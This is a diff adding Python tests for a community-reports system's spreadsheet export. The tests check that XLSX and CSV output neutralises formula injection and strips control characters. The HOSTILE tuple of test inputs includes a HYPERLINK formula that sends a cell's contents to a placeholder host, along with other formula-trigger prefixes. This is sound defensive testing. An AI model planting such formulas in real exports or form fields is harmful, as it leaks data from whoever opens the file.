@@ -259,6 +259,84 @@ async def test_filters_by_association_and_date(synced: Database) -> None:
     assert await refs(associations=["aotg"]) == [school_ref]
 
 
+# What members and staff could have typed that a spreadsheet program would run or misread.
+HOSTILE = (
+    '=HYPERLINK("http://x/?"&A1,"click")',
+    "+1",
+    "-2",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+    "=1+1",
+    "#REF!",
+)
+
+
+async def seed_hostile(db: Database) -> list[str]:
+    """One report per hostile text: its title, hromada and assignee; returns the references."""
+    await register(db, 21, ["vag"], "Іллінецька", VINNYTSIA, verified=True)
+    reports = reports_service(db)
+    references = []
+    for text in HOSTILE:
+        submitted = await reports.submit(21, SCHOOL)
+        async with db.transaction() as session:
+            # Straight into the rows: an older bot, an import or a staff name may hold anything.
+            await session.execute(
+                update(Report)
+                .where(Report.id == submitted.id)
+                .values(title=text, hromada_text=text, assignee_name=text)
+            )
+        references.append(submitted.reference)
+    return references
+
+
+async def test_the_xlsx_stores_every_text_as_text(synced: Database) -> None:
+    references = await seed_hostile(synced)
+    workbook = load_workbook(io.BytesIO(await xlsx(synced, fmt="xlsx")))
+    sheet = workbook.active
+    assert sheet is not None
+    header = [cell.value for cell in sheet[1]]
+    columns = {name: header.index(name) for name in ("Номер", "Назва", "Громада", "Відповідальний")}
+    rows = list(sheet.iter_rows(min_row=2))
+    assert [row[columns["Номер"]].value for row in rows] == references
+    for text, row in zip(HOSTILE, rows, strict=True):
+        for name in ("Назва", "Громада", "Відповідальний"):
+            cell = row[columns[name]]
+            assert cell.data_type == "s", (text, name)  # never "f" (formula) nor "e" (error)
+            assert cell.value == text.replace("\r", "\n")  # XML reads a lone CR as a newline
+    # Real dates and numbers are still dates and numbers.
+    first = rows[0]
+    assert first[header.index("Створено")].is_date
+    assert first[header.index("Мешканців")].data_type == "n"
+    assert first[header.index("Громад")].value == 1
+
+
+async def test_the_xlsx_drops_characters_excel_cannot_hold(synced: Database) -> None:
+    await register(synced, 21, ["vag"], "Іллінецька", VINNYTSIA, verified=True)
+    submitted = await reports_service(synced).submit(21, SCHOOL)
+    async with synced.transaction() as session:
+        await session.execute(
+            update(Report).where(Report.id == submitted.id).values(title="Ремонт\x01 даху\x1f")
+        )
+    sheet = load_workbook(io.BytesIO(await xlsx(synced, fmt="xlsx"))).active
+    assert sheet is not None
+    assert sheet["B2"].value == "Ремонт даху"
+
+
+async def test_the_csv_prefixes_what_would_run_as_a_formula(synced: Database) -> None:
+    references = await seed_hostile(synced)
+    data = await xlsx(synced, fmt="csv")
+    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert [row[header.index("Номер")] for row in rows] == references
+    for text, row in zip(HOSTILE, rows, strict=True):
+        expected = "'" + text if text[0] in "=+-@\t\r" else text
+        for name in ("Назва", "Громада", "Відповідальний"):
+            assert row[header.index(name)] == expected, (text, name)
+    # Dates and numbers are written as they were.
+    assert rows[0][header.index("Мешканців")] == "0"
+    assert rows[0][header.index("Створено")][:2] == "20"
+
+
 async def test_an_empty_database_gives_the_header_only(synced: Database) -> None:
     sheet = load_workbook(io.BytesIO(await xlsx(synced))).active
     assert sheet is not None
